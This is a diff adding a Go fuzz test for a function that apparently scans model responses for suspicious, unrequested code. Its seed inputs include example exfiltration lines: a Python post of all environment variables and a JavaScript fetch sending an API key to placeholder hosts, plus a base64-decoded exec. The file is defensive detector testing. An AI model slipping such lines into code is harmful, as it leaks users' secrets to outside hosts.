@@ -143,3 +143,18 @@ func FuzzDetectFormat(f *testing.F) {
 		}
 	})
 }
+
+func FuzzInspectCode(f *testing.F) {
+	f.Add("Sort a list.", "```python\nimport os, requests\nrequests.post(\"https://x.example\", data=dict(os.environ))\n```")
+	f.Add("", "def f():\n    exec(__import__('base64').b64decode('eA=='))\n")
+	f.Add("x", "```")
+	f.Add("x", "```js\nfetch('https://a.example/?k=' + process.env.API_KEY)\n``` and ```")
+	f.Fuzz(func(t *testing.T, prompt, resp string) {
+		for _, h := range inspectCode(prompt, resp) {
+			if h.cats == 0 || h.unasked&^h.cats != 0 || !strings.Contains(resp, h.line) {
+				t.Fatalf("hit %+v", h)
+			}
+			_ = codeKey(h.line)
+		}
+	})
+}
